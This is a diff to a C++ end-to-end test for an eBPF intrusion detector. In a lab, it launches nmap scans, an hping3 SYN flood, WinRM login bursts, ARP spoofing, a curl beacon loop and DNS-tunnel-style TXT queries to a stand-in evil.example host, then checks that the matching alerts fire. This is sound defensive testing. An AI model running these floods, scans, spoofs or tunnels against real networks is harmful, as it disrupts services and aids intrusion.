@@ -1,13 +1,15 @@
 // End to end: the behavioural rules on real traffic. netguardd (eBPF) on the sensor's veth with
-// a rules file; attacks from peer address A, benign traffic from peer address B:
+// the shipped rules file (every threshold at its default); attacks from peer address A, benign
+// traffic from peer address B:
 //   - nmap SYN, FIN, XMAS, ACK and UDP scans, and a ping sweep (-sn)
 //                                             -> port_scan, fin_scan, xmas_scan, ack_scan,
 //                                                udp_scan, ping_sweep (T1046)
-//   - an hping3 SYN flood (bounded count)     -> syn_flood (T1498)
-//   - many short connections to a login port  -> brute_force (T1110)
-//   - dig TXT queries with long random labels -> dns_tunnel (T1071.004), from ring DNS samples
+//   - an hping3 SYN flood, 3000 SYNs (< 3 s)  -> syn_flood (T1498)
+//   - 12 short connections to WinRM (5985)    -> brute_force (T1110)
+//   - 24 dig TXT queries, long random labels  -> dns_tunnel (T1071.004), from ring DNS samples
 //   - ARP replies giving an address a new MAC -> arp_spoof (T1557.002), from ring ARP samples
-//   - periodic connections to one service     -> beaconing (T1071)
+//   - 10 connections to one service, 1.2 s apart, in the background during the scans
+//                                             -> beaconing (T1071)
 //   - B: a few HTTP GETs and a DNS lookup     -> nothing
 // Then `ngctl rules`: list, disable, a reload of an invalid file refused with the rule and
 // line named while the running rules stay, and the disable kept across a reload and a SIGHUP
@@ -37,7 +39,8 @@ class RulesE2eTest : public RulesE2eFixture {
     ASSERT_NO_FATAL_FAILURE(DaemonE2eTest::SetUp());
     if (IsSkipped()) return;
     web_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "hello\n");
-    login_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "denied\n");
+    login_ =
+        std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "denied\n", kWinRm);
     beacon_ = std::make_unique<HttpServer>(lab_->sensor().fd(), lab_->sensor_ip(), "task\n");
     rules_ = state_ + "/rules.yaml";
     WriteRules(ValidRules());
@@ -56,6 +59,7 @@ class RulesE2eTest : public RulesE2eFixture {
   }
 
   void TearDown() override {
+    beacons_.reset();
     dnsmasq_.reset();
     web_.reset();
     login_.reset();
@@ -63,22 +67,31 @@ class RulesE2eTest : public RulesE2eFixture {
     DaemonE2eTest::TearDown();
   }
 
-  std::string ValidRules() const {
-    return "rules:\n"
-           "  syn_flood: {threshold: 500, window: 10s}\n"
-           "  brute_force:\n"
-           "    threshold: 8\n"
-           "    ports: [" +
-           std::to_string(login_->port()) +
-           "]\n"
-           "  dns_tunnel: {threshold: 10}\n"
-           "  beaconing: {threshold: 6, min_interval_s: 0.2, max_jitter: 0.3}\n";
+  std::string ValidRules() const { return ShippedRules(); }
+
+  /// An implant polling `beacon_` from A every 1.2 s (+ curl's time), `n` times, in the
+  /// background; bounded to 20 s.
+  void StartBeacons(int n) {
+    const std::string log = state_ + "/beacons.log";
+    dump_on_failure_.push_back(log);
+    const std::string url =
+        "http://" + lab_->sensor_ip() + ":" + std::to_string(beacon_->port()) + "/";
+    std::vector<std::string> command = PeerCommand(
+        {"sh", "-c",
+         "for i in $(seq " + std::to_string(n) + "); do curl -sS --noproxy '*' --interface " +
+             lab_->peer_ip_a() + " --max-time 2 " + url + "; sleep 1.2; done"},
+        20);
+    command.insert(command.begin(), "/usr/bin/env");  // ChildProcess takes a path
+    beacons_ = std::make_unique<ChildProcess>(command, ChildProcess::Options{.output_path = log});
   }
+
+  static constexpr uint16_t kWinRm = 5985;  // a brute_force port (HTTP, so curl logs in)
 
   std::unique_ptr<HttpServer> web_;
   std::unique_ptr<HttpServer> login_;
   std::unique_ptr<HttpServer> beacon_;  // a command-and-control server polled periodically
   std::unique_ptr<ChildProcess> dnsmasq_;
+  std::unique_ptr<ChildProcess> beacons_;
   std::string dnsmasq_log_;
 };
 
@@ -98,7 +111,9 @@ TEST_F(RulesE2eTest, AttacksRaiseTheirRulesBenignTrafficNothingAndRulesAreManage
             0)
       << answer;
 
-  // Attacks, from A. A ping sweep of 12 addresses that exist only as neighbour entries
+  // Attacks, from A. Beacons in the background (8 regular ones alert) while the scans run.
+  StartBeacons(10);
+  // A ping sweep of 12 addresses that exist only as neighbour entries
   // pointing at the sensor's MAC, so the probes reach its XDP hook.
   const std::string subnet = sensor.substr(0, sensor.rfind('.') + 1);
   std::string sensor_mac;
@@ -126,22 +141,20 @@ TEST_F(RulesE2eTest, AttacksRaiseTheirRulesBenignTrafficNothingAndRulesAreManage
   EXPECT_EQ(InPeer({"nmap", "-sU", "-Pn", "-n", "-p", "1-40", "--max-retries", "0", "--min-rate",
                     "200", "-S", a, "-e", lab_->peer_if(), sensor}),
             0);
-  EXPECT_EQ(InPeer({"hping3", "-q", "-S", "-p", std::to_string(web_->port()), "-i", "u200", "-c",
-                    "1500", "-a", a, sensor},
-                   20),
-            0);
-  for (int i = 0; i < 10; ++i) Curl(a, sensor, login_->port());
+  EXPECT_EQ(InPeer({"hping3", "-q", "-S", "-p", std::to_string(web_->port()), "-i", "u100", "-c",
+                    "3000", "-a", a, sensor},
+                   kFloodSeconds),
+            0)
+      << "3000 SYNs within " << kFloodSeconds << " s";
+  for (int i = 0; i < 12; ++i) Curl(a, sensor, login_->port());
   std::mt19937 random(7);
-  for (int i = 0; i < 12; ++i) {
+  for (int i = 0; i < 24; ++i) {
     std::string label;
     for (int c = 0; c < 40; ++c) label += "abcdefghijklmnopqrstuvwxyz0123456789"[random() % 36];
     InPeer({"dig", "-b", a, "@" + sensor, "+tries=1", "+time=1", "TXT", label + ".t.evil.example"},
            5);
   }
-  for (int i = 0; i < 7; ++i) {
-    Curl(a, sensor, beacon_->port());
-    std::this_thread::sleep_for(milliseconds(300));
-  }
+  EXPECT_TRUE(beacons_->WaitExit(milliseconds(20000))) << "the beacons are done";
   // Last: the sensor's neighbour entry for A now points at a bogus MAC.
   ASSERT_NO_FATAL_FAILURE(SendArp({0x02, 0, 0, 0, 0, 1}, a, a, 2, 1, milliseconds(50)));
   ASSERT_NO_FATAL_FAILURE(SendArp({0x02, 0, 0, 0, 0, 2}, a, a, 2, 1, milliseconds(50)));
